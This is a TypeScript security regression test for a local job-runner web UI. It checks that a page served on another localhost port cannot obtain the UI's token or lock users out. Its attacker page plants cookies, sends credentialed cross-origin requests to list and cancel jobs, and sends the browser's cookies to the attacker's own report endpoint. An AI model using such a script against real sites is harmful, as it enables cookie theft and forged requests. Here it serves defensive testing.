/** `yonder ui`'s token stays with the page opened with it (issue 25, attack 7): in Chromium, a page another user serves on another port of 127.0.0.1, visited by the same browser, is never sent the token, and the cookies it plants lock no one out. */
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Raw, runCli, runCliJson } from '@yonder/test-helpers';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, startUiProcess, type UiProcess } from './test-support/ui-process.js';

let state: string;
let ui: UiProcess;
let browser: Browser;
let attacker: Server;
let attackerOrigin: string;
let sleeper: string;
/** Everything the attacker's server was sent: the address and every header. */
const seen: string[] = [];

/** The attacker's page: plants cookies for 127.0.0.1 (every port), tries the UI with the browser's credentials, and reports what it could read. */
function attackerPage(uiPort: number): string {
  const script = `
    const names = ['yonder-ui-${uiPort}', 'token', 'yonder-token'];
    for (const name of names)
      for (const path of ['/', '/api', '/api/jobs', '/api/events', '/job', '/assets'])
        document.cookie = name + '=planted-by-attacker; path=' + path;
    const ui = 'http://127.0.0.1:${uiPort}';
    const ids = JSON.stringify({ ids: [${JSON.stringify('SLEEPER')}] });
    Promise.allSettled([
      fetch(ui + '/api/jobs', { credentials: 'include', mode: 'no-cors' }),
      fetch(ui + '/api/cancel', { method: 'POST', credentials: 'include', mode: 'no-cors',
        headers: { 'content-type': 'text/plain' }, body: ids }),
    ]).then(() => fetch('/report?cookies=' + encodeURIComponent(document.cookie)))
      .then(() => { document.title = 'done'; });
  `;
  return `<!doctype html><title>cat pictures</title><script>${script}</script>`;
}

async function status(id: string): Promise<Raw> {
  return (await runCliJson(['status', id], { state })).doc.result[0];
}

function record(request: IncomingMessage): void {
  seen.push(`${request.method} ${request.url}\n${JSON.stringify(request.headers)}`);
}

beforeAll(async () => {
  state = mkdtempSync(join(tmpdir(), 'yonder-ui-token-'));
  const submitted = await runCli(
    ['submit', '--name', 'precious', '--', 'sh', '-c', 'echo secret-output; sleep 300'],
    { state },
  );
  expect(submitted.code, submitted.stderr).toBe(0);
  sleeper = submitted.stdout.trim();
  ui = await startUiProcess(state);
  attacker = createServer((request, response) => {
    record(request);
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end(attackerPage(ui.port).replace('SLEEPER', sleeper));
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => attacker?.close(resolve));
  if (ui) expect(await ui.stop(), ui.stderr()).toBe(0);
  await runCli(['cancel', sleeper], { state });
  rmSync(state, { recursive: true, force: true });
});

describe('the token of yonder ui and another port of 127.0.0.1', () => {
  it('is never sent to a page on another port, and its planted cookies lock no one out', async () => {
    const context = await browser.newContext();
    const victim = await context.newPage();
    // The victim opens the address yonder ui printed, then the job's page from the table.
    await victim.goto(ui.url);
    const link = victim.locator(`#jobs tr[data-id="${sleeper}"] .col-id a`);
    await link.waitFor({ timeout: 30_000 });
    await link.click();
    await expect
      .poll(() => victim.locator('#log').textContent(), { timeout: 30_000 })
      .toContain('secret-output');
    expect(await context.cookies()).toEqual([]);

    // Then, in the same browser, a page on another port of the same address.
    const visit = await context.newPage();
    await visit.goto(`${attackerOrigin}/`);
    await expect.poll(() => visit.title(), { timeout: 30_000 }).toBe('done');
    const report = seen.find((line) => line.startsWith('GET /report'));
    expect(report, seen.join('\n')).toBeDefined();
    for (const line of seen) expect(line).not.toContain(ui.token);
    // What it tried with the browser's credentials reached nothing.
    expect((await status(sleeper)).cancel).toBeNull();
    expect((await status(sleeper)).state).toBe('running');
    const planted = await context.cookies();
    expect(planted.length).toBeGreaterThan(0);

    // With those cookies in the browser, the victim opens the address again: all works.
    const again = await context.newPage();
    await again.goto(ui.url);
    await again.locator(`#jobs tr[data-id="${sleeper}"]`).waitFor({ timeout: 30_000 });
    await expect(again.locator('#connection').textContent()).resolves.not.toBe('reconnecting…');
    await again.locator(`#jobs tr[data-id="${sleeper}"] .col-id a`).click();
    await expect
      .poll(() => again.locator('#log').textContent(), { timeout: 30_000 })
      .toContain('secret-output');
    await expect.poll(() => again.locator('#connection').textContent()).toBe('live');
    await again.locator('#cancel-job:not([disabled])').click();
    await expect
      .poll(() => again.locator('h1 .state').textContent(), { timeout: 60_000 })
      .toBe('cancelled');
    for (const line of seen) expect(line).not.toContain(ui.token);
    await context.close();
  });
});
